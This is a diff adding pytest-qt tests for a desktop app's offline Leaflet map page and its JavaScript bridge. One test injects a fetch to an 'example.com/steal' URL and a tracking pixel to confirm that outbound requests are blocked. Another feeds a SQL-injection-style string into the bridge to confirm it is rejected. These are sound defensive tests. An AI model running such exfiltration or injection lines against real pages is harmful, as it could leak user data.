@@ -1,0 +1,183 @@
+"""The Map page in a real QtWebEngine view: built off the GUI thread, served from a file, only
+tile requests leave the view, and the page talks to the app through the narrow bridge."""
+
+from __future__ import annotations
+
+import datetime as dt
+from typing import Any
+
+import pytest
+from PySide6.QtCore import QDate, Qt
+from PySide6.QtWidgets import QDialog, QPushButton
+from pytestqt.qtbot import QtBot
+
+from tests.ui.conftest import MakeWindow
+from tests.ui.test_main_window import click_nav
+from watchdesk.db.engine import Database
+from watchdesk.services.observation_search import ObservationFilter, observation_ids
+from watchdesk.ui.main_window import MainWindow
+from watchdesk.ui.pages.map import MapPage
+
+LOAD_MS = 30_000
+
+
+def map_page(qtbot: QtBot, window: MainWindow) -> MapPage:
+    click_nav(qtbot, window, "Map")
+    page = window.pages.currentWidget()
+    assert isinstance(page, MapPage)
+    assert page.view is not None
+    return page
+
+
+def loaded(qtbot: QtBot, page: MapPage) -> None:
+    assert page.view is not None
+    view = page.view
+    qtbot.waitUntil(lambda: view.last_load is not None, timeout=LOAD_MS)
+    assert view.last_load is True
+
+
+def run_js(qtbot: QtBot, page: MapPage, script: str) -> Any:
+    results: list[Any] = []
+    assert page.view is not None
+    page.view.page().runJavaScript(script, 0, results.append)
+    qtbot.waitUntil(lambda: bool(results), timeout=LOAD_MS)
+    return results[0]
+
+
+@pytest.fixture
+def shown(qtbot: QtBot, make_window: MakeWindow, demo_db: Database) -> MapPage:
+    from watchdesk.ui.context import DEFAULT_TILE_REFERER, DEFAULT_TILE_URL
+    from watchdesk.ui.widgets.map_view import map_profile
+
+    # Views share their profile and its request log: start each test with an empty log.
+    interceptor = map_profile(DEFAULT_TILE_URL, DEFAULT_TILE_REFERER)[1]
+    interceptor.blocked.clear()
+    interceptor.tiles_requested = 0
+    page = map_page(qtbot, make_window(demo_db))
+    loaded(qtbot, page)
+    # The bridge connects once the page's scripts have run.
+    qtbot.waitUntil(lambda: run_js(qtbot, page, "!!window.watchdesk") is True, timeout=LOAD_MS)
+    return page
+
+
+def test_the_map_shows_the_filtered_observations_offline(
+    qtbot: QtBot, shown: MapPage, demo_db: Database
+) -> None:
+    page = shown
+    first, last = page.first.date().toPython(), page.last.date().toPython()
+    assert isinstance(first, dt.date) and last - first == dt.timedelta(days=90)
+    with demo_db.read() as session:
+        ids = observation_ids(session, 1, ObservationFilter(first=first, last=last))
+        from sqlalchemy import text
+
+        located = set(
+            session.execute(text("SELECT id FROM observation WHERE latitude IS NOT NULL")).scalars()
+        )
+    expected = len(set(ids) & located)
+    assert expected > 0 and len(page.shown_ids) == expected
+    assert page.status.text() == f"{expected:,} observations on the map"
+    # Leaflet, clusters and the block outlines all run with no CDN.
+    assert run_js(qtbot, page, "typeof L.markerClusterGroup") == "function"
+    assert run_js(qtbot, page, "document.querySelectorAll('.leaflet-interactive').length") > 0
+    remote = 'document.querySelectorAll(\'script[src^="http"], link[href^="http"]\').length'
+    assert run_js(qtbot, page, remote) == 0
+    assert page.view is not None and page.view.interceptor.blocked == []
+
+    # A narrower range builds a new map.
+    page.first.setDate(QDate(2026, 11, 14))
+    page.build()
+    loaded(qtbot, page)
+    assert 0 < len(page.shown_ids) < expected
+
+
+# Qt's web channel refuses a string for an int parameter itself, and says so.
+@pytest.mark.qt_log_ignore("Could not convert argument")
+def test_clicking_a_marker_opens_that_observation_through_the_bridge(
+    qtbot: QtBot, shown: MapPage
+) -> None:
+    page = shown
+    chosen = max(page.shown_ids)
+    run_js(qtbot, page, f"window.watchdesk.openObservation({chosen}); true")
+    qtbot.waitUntil(lambda: "Police" in page.detail.toPlainText(), timeout=LOAD_MS)
+    before = page.detail.toPlainText()
+    # Ids not on the map, and anything that is not an id, are ignored.
+    run_js(qtbot, page, "window.watchdesk.openObservation(987654321); true")
+    run_js(qtbot, page, "window.watchdesk.openObservation('1 OR 1=1'); true")
+    assert page.detail.toPlainText() == before
+
+
+def test_only_tile_requests_leave_the_view(qtbot: QtBot, shown: MapPage) -> None:
+    page = shown
+    assert page.view is not None
+    interceptor = page.view.interceptor
+    run_js(qtbot, page, "fetch('https://example.com/steal?x=1').catch(function(){}); true")
+    run_js(qtbot, page, "new Image().src = 'http://example.org/pixel.png'; true")
+    qtbot.waitUntil(lambda: len(interceptor.blocked) >= 2, timeout=LOAD_MS)
+    assert any("example.com/steal" in url for url in interceptor.blocked)
+    assert any("example.org/pixel" in url for url in interceptor.blocked)
+    assert interceptor.tiles_requested > 0  # tiles are asked for (and fail: no network here)
+    # No new windows, and the view stays on the map.
+    run_js(qtbot, page, "window.open('https://example.com/'); true")
+    run_js(qtbot, page, "location.href = 'https://example.com/'; true")
+    qtbot.wait(300)
+    assert page.view.url() == page.view.map_page.map_url
+
+
+def test_the_bridge_checks_picked_points(qtbot: QtBot, shown: MapPage) -> None:
+    assert shown.view is not None
+    bridge = shown.view.bridge
+    picked: list[tuple[float, float]] = []
+    bridge.point_picked.connect(lambda lat, lon: picked.append((lat, lon)))
+    bridge.pickPoint(45.5, -122.6)
+    bridge.pickPoint(95.0, 0.0)
+    bridge.pickPoint(float("nan"), 0.0)
+    assert picked == [(45.5, -122.6)]
+
+
+def test_a_click_on_the_pick_map_fills_in_the_form_point(
+    qtbot: QtBot, make_window: MakeWindow, demo_db: Database, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from PySide6.QtWidgets import QLineEdit
+
+    from tests.ui.test_members_page import in_dialog
+    from tests.ui.test_observations_page import observations_page
+    from watchdesk.ui.dialogs import pick_point
+
+    window = make_window(demo_db)
+    page = observations_page(qtbot, window)
+    clicked: list[tuple[float, float] | None] = []
+
+    def click_on_map(dialog: pick_point.PickPointDialog) -> int:
+        view = dialog.view
+        qtbot.waitUntil(lambda: view.last_load is True, timeout=LOAD_MS)
+        find_map = "Object.values(window).find(function (v) { return v instanceof L.Map; })"
+        script = (
+            f"(function () {{ var m = {find_map}; if (!window.watchdesk) return false;"
+            " m.fire('click', {latlng: L.latLng(45.5151, -122.6352)}); return true; })()"
+        )
+        done: list[object] = []
+
+        def attempt() -> bool:
+            view.page().runJavaScript(script, 0, done.append)
+            qtbot.wait(100)
+            return bool(done) and done[-1] is True
+
+        qtbot.waitUntil(attempt, timeout=LOAD_MS)
+        qtbot.waitUntil(lambda: dialog.point is not None, timeout=LOAD_MS)
+        clicked.append(dialog.point)
+        assert dialog.ok.isEnabled() and "45.515100" in dialog.chosen.text()
+        return 1
+
+    monkeypatch.setattr(pick_point.PickPointDialog, "exec", click_on_map)
+    seen: dict[str, str] = {}
+
+    def pick(dialog: QDialog) -> None:
+        qtbot.mouseClick(dialog.findChild(QPushButton, "pick_on_map"), Qt.MouseButton.LeftButton)
+        seen["lat"] = dialog.findChild(QLineEdit, "latitude").text()
+        seen["lon"] = dialog.findChild(QLineEdit, "longitude").text()
+        dialog.reject()
+
+    failures = in_dialog(qtbot, pick)
+    qtbot.mouseClick(page.record_button, Qt.MouseButton.LeftButton)
+    assert failures == []
+    assert clicked and seen == {"lat": "45.515100", "lon": "-122.635200"}
